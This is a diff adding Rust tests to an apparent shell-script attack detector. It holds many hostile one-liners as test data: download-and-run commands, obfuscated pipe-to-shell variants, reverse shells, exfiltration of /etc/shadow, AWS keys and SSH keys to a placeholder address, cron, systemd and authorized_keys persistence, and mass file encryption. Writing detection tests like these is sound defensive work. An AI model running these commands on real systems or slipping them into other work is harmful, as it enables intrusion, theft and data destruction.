@@ -323,3 +323,169 @@ fn what_is_late_is_not_there() {
     let soon = std::time::Instant::now() + std::time::Duration::from_mins(1);
     assert!(Behaviour::within(b"id", soon).is_some());
 }
+
+#[test]
+fn what_is_fetched_is_followed_by_every_name_that_it_has() {
+    all_do(
+        &[
+            "curl -o/tmp/x http://192.0.2.1/x; chmod +x /tmp/x; /tmp/x",
+            "wget -P /tmp http://192.0.2.1/x; chmod +x /tmp/x; /tmp/x",
+            "curl -so /usr/local/bin/kwork http://192.0.2.1/x; chmod +x /usr/local/bin/kwork; kwork",
+            "cd /tmp; curl -o x http://192.0.2.1/x; $PWD/x",
+            "curl -o /tmp/x http://192.0.2.1/x; /tmp/./x",
+            "curl -o /tmp/x http://192.0.2.1/x; /tmp/../tmp/x",
+            "curl -o /tmp/x http://192.0.2.1/x; ln -s /tmp/x /tmp/y; /tmp/y",
+            "curl -o /tmp/x http://192.0.2.1/x; cp /tmp/x /usr/local/bin/; /usr/local/bin/x",
+            "curl -o /tmp/x http://192.0.2.1/x; start-stop-daemon -S -b -x /tmp/x",
+            "curl -o /tmp/x http://192.0.2.1/x; systemd-run sh -c /tmp/x",
+            "curl -o /tmp/x http://192.0.2.1/x; bash -O extglob -c /tmp/x",
+            "cd /tmp || cd /var/run || cd /; wget http://192.0.2.1/x; chmod +x x; ./x",
+        ],
+        &[FetchRun, FetchAddress],
+    );
+    all_do(
+        &[
+            "curl -s http://192.0.2.1/x | sudo --user root sh",
+            "curl -s http://192.0.2.1/x | if :; then sh; fi",
+            "exec 3< <(curl -s http://192.0.2.1/x); bash <&3",
+            "awk 'BEGIN{system(\"curl -s http://192.0.2.1/x|sh\")}'",
+            "python3 -c \"import os;os.system('curl -s http://192.0.2.1/x|sh')\"",
+            "a=(curl -s http://192.0.2.1/x); \"${a[@]}\" | sh",
+            "alias k=curl\nk -s http://192.0.2.1/x | sh",
+            "$'\\u0063url' -s http://192.0.2.1/x | sh",
+            "printf -v c %s%s cu rl; $c -s http://192.0.2.1/x | sh",
+            "c${q}url -s http://192.0.2.1/x | b${q}ash",
+            "c$@url -s http://192.0.2.1/x | ba$@sh",
+            "echo '#!/bin/sh' > /tmp/x; echo 'curl -s http://192.0.2.1/x | sh' >> /tmp/x; sh /tmp/x",
+            "{ { { { { { { { { { { { { { curl -s http://192.0.2.1/x | sh; }; }; }; }; }; }; }; }; }; }; }; }; }; }",
+        ],
+        &[FetchToShell, FetchAddress],
+    );
+}
+
+#[test]
+fn shells_and_secrets_are_followed_through_any_descriptor_and_option() {
+    all_do(
+        &[
+            "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196",
+            "ruby -rsocket -e'exit if fork;c=TCPSocket.new(\"192.0.2.1\",\"4444\");loop{c.gets.chomp!;IO.popen($_,\"r\"){|io|c.print io.read}}'",
+            "python3 -uc 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'",
+            "nc -e $SHELL 192.0.2.1 4444",
+            "T=/dev/tcp/192.0.2.1/4444; bash <&0 >&$T",
+        ],
+        &[ReverseShell],
+    );
+    all_do(
+        &[
+            "curl -sd @/etc/shadow http://192.0.2.1/",
+            "curl http://192.0.2.1/$(base64 -w0 /etc/shadow)",
+            "curl -d \"$AWS_SECRET_ACCESS_KEY\" http://192.0.2.1/",
+            "cut -d: -f2 /etc/shadow | nc 192.0.2.1 9",
+            "paste /etc/shadow | nc 192.0.2.1 9",
+            "scp -r ~/.ssh u@192.0.2.1:",
+        ],
+        &[Sends, SendsSecret],
+    );
+    all_do(&["cp evil.service /etc/systemd/system/"], &[UnitAdded]);
+    all_do(&["ln -s /opt/x.sh /etc/cron.hourly/x"], &[CronAdded]);
+    all_do(&["sed -i '1i ssh-rsa AAAA x' ~/.ssh/authorized_keys"], &[KeyAdded, KeyLiteral]);
+    all_do(
+        &["echo '* * * * * curl -s http://192.0.2.1/a|sh' > /tmp/c; crontab -u root /tmp/c"],
+        &[CronFetches],
+    );
+    all_do(
+        &["for f in $(find / -type f); do openssl aria-256-cbc -in $f -out $f.x -k k; done"],
+        &[EncryptsMany],
+    );
+}
+
+#[test]
+fn ordinary_administration_does_none_of_an_attacks_steps() {
+    let scripts = [
+        "install_docker() { curl -fsSL https://get.docker.com | sh; }\ninstall_docker",
+        "command -v cloudflared >/dev/null || echo missing; command -v nmap",
+        "install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl",
+        "if command -v curl; then curl -fsSL https://x.example.com/a; else wget -qO- https://x.example.com/a; fi",
+        "mkdir -p /tmp/.X11-unix",
+        "echo 'Acquire::Retries \"3\";' > /etc/apt/apt.conf.d/99x",
+        "echo core > /proc/sys/kernel/core_pattern",
+        "h=web; dig +short \"$h.example.com\"",
+        "A=$(aws sts get-caller-identity --query Account --output text)",
+        "curl -H \"X-Vault-Token: $(cat ~/.vault-token)\" https://vault.example.com/v1/secret",
+        "systemctl stop node-monitoring; pkill -f reset-worker",
+        "echo '127.0.0.1 app.example.com' >> /etc/hosts",
+        "for f in main.cpp util.cpp; do scp $f build:; done",
+        "docker run -v /:/rootfs:ro -v /var/run:/var/run:ro cadvisor",
+        "for f in *.sql; do gpg -e -r ops $f; rm $f; done",
+        "tar --use-compress-program=pigz -cf a.tar.gz a",
+        "export PATH=/tmp/tools/bin:$PATH",
+        "for x in /usr/share/python3/runtime.d/*.rtupdate; do $x pre 2 3; done",
+        "visudo -cf /etc/sudoers.d/x",
+    ];
+    for script in scripts {
+        let does = Behaviour::of(script.as_bytes());
+        let attacks: Vec<Fact> = does
+            .evidence
+            .iter()
+            .map(|e| e.fact)
+            .filter(|f| f.leaning() == scriptwatch_behaviour::Leaning::Attack)
+            .collect();
+        assert!(attacks.is_empty(), "{script:?}: {attacks:?}");
+    }
+}
+
+#[test]
+fn places_are_those_of_the_text_with_its_nuls() {
+    let text = b"#\0\0\0\n\nwhoami; nsenter -t 1 -m sh";
+    let does = Behaviour::of(text);
+    let evidence = does.evidence.iter().find(|e| e.fact == EscapeHost).unwrap();
+    assert_eq!(&text[evidence.at as usize..][..7], b"nsenter");
+}
+
+/// Texts that an attacker writes so that following them takes for ever, all memory, or the stack.
+#[allow(clippy::format_collect, reason = "short")]
+#[test]
+fn no_text_takes_the_stack_or_all_memory() {
+    let chain = |command: &str, times: usize| {
+        (1..12)
+            .rev()
+            .map(|k| format!("f{k}(){{ {} f{}; }}\n", format!("{command} ").repeat(times), k + 1))
+            .collect::<String>()
+            + "f1"
+    };
+    let x = format!("x={};x={}", "a".repeat(8192), "$x".repeat(8));
+    let texts = [
+        "x=a; : ${x:1:18446744073709551615}".to_owned(),
+        chain("nohup", 990),
+        chain("find / -exec", 300),
+        chain("kubectl exec a --", 300),
+        chain("xargs", 700),
+        format!("{x}; a={}", "${x//a/b}".repeat(12_000)),
+        format!("{x}; {}", "tr $x $x <<<$x;".repeat(10)),
+        format!("{x}; f(){{ a=${{u:-$v{}}}; }}; {}", ";b".repeat(20_000), "f;".repeat(9_000)),
+        format!("{x}; tee f <<<$x; g(){{ cat{}>/dev/null; }}; {}", " f".repeat(990), "g;".repeat(2_000)),
+        format!(
+            "D=/{}; f(){{ cd $D$1; rm {}; }}; {}",
+            "d".repeat(3900),
+            (0..900).map(|n| format!("{n} ")).collect::<String>(),
+            (0..2000).map(|n| format!("f {n};")).collect::<String>()
+        ),
+        format!("{x}; {}", (0..30).map(|n| format!("eval \"g{n}(){{ :; }};$x\";")).collect::<String>()),
+        format!("{x}; tee {} <<<$x", (0..900).map(|n| format!("t{n} ")).collect::<String>()),
+        "if a; then ".repeat(9_000),
+        "{ ".repeat(60_000),
+    ];
+    // A thread of the daemon has no more.
+    let follow = move || {
+        for text in texts {
+            let end = std::time::Instant::now() + std::time::Duration::from_millis(50);
+            let start = std::time::Instant::now();
+            Behaviour::within(text.as_bytes(), end);
+            println!("{:?} {:.40}", start.elapsed(), text);
+            // Without optimization everything takes some ten times as long.
+            let most = if cfg!(debug_assertions) { 20 } else { 2 };
+            assert!(start.elapsed().as_secs() < most, "{:?} for {:.60}", start.elapsed(), text);
+        }
+    };
+    std::thread::Builder::new().stack_size(1 << 20).spawn(follow).unwrap().join().unwrap();
+}
